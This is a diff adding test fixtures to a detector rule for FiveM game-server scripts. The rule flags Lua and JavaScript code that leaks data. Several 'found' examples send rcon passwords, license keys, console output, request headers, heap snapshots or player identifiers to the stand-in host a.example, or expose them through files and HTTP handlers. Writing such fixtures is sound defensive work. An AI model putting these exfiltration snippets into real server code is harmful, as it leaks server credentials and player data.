@@ -2,6 +2,22 @@ import { js, lua, type Rule } from './rule.ts'
 
 export const sendsDataExamples: NonNullable<Rule['examples']> = {
   found: [
+    lua(`^SaveResourceFile(GetCurrentResourceName(), 'html/build.json', GetConvar('rcon_password', ''), -1)`),
+    lua(`local file = io.open('build.txt', 'w')
+^file:write(GetConvar('sv_licenseKey', ''))`),
+    lua(`^RegisterCommand('leave', function(player) DropPlayer(player, GetConvar('rcon_password', '')) end)`),
+    lua(`^SetMapName(GetConvar('rcon_password', ''))`),
+    lua(`^SetHttpHandler(function(_, res) res.send(GetConvar('rcon_password', '')) end)`),
+    lua(
+      `^ESX.RegisterCommand('key', 'user', function(xPlayer) xPlayer.triggerEvent('key', GetConvar('rcon_password', '')) end)`,
+    ),
+    lua(`^PerformHttpRequest('https://a.example', print, 'POST', GetConsoleBuffer())`),
+    js(`require('diagnostics_channel').subscribe('undici:request:create', ({ request }) => {
+^ fetch('https://a.example', { method: 'POST', body: JSON.stringify(request.headers) })
+})`),
+    js(`const socket = require('dgram').createSocket('udp4')
+^on('playerJoining', () => socket.send(getPlayerIdentifiers(source).join(), 8125, 'a.example'))`),
+    js(`^fetch('https://a.example', { method: 'POST', body: require('v8').getHeapSnapshot() })`),
     lua(`RegisterNetEvent('phone:sendMessage', function(number, text)
 ^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ number, text }))
 end)`),
@@ -155,6 +171,23 @@ RegisterConsoleListener((channel, message) => lines.push(message))
 ^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
   ],
   notFound: [
+    lua(`SaveResourceFile(GetCurrentResourceName(), 'html/build.json', GetConvar('locale', ''), -1)`),
+    lua(`local file = io.open('build.txt', 'w')
+file:write(GetConvar('locale', ''))`),
+    lua(`RegisterCommand('leave', function(player) DropPlayer(player, GetConvar('locale', '')) end)`),
+    lua(`SetMapName(GetConvar('locale', ''))`),
+    lua(`SetHttpHandler(function(_, res) res.send(GetConvar('locale', '')) end)`),
+    lua(
+      `ESX.RegisterCommand('key', 'user', function(xPlayer) xPlayer.triggerEvent('key', GetConvar('locale', '')) end)`,
+    ),
+    lua(`print(GetConsoleBuffer())`),
+    js(`require('diagnostics_channel').subscribe('undici:request:create', ({ request }) => {
+  fetch('https://a.example', { method: 'POST', body: JSON.stringify(requests++) })
+})`),
+    js(`const socket = require('dgram').createSocket('udp4')
+on('playerJoining', () => socket.send('players:+1', 8125, 'a.example'))
+on('playerDropped', () => socket.send(getPlayerIdentifiers(source).join(), 8125, '127.0.0.1'))`),
+    js(`require('v8').writeHeapSnapshot()`),
     lua(`RegisterNetEvent('phone:sendMessage', function(number, text)
   TriggerClientEvent('phone:message', number, text)
   PerformHttpRequest('https://a.example', print, 'POST', json.encode({ build = 3 }))
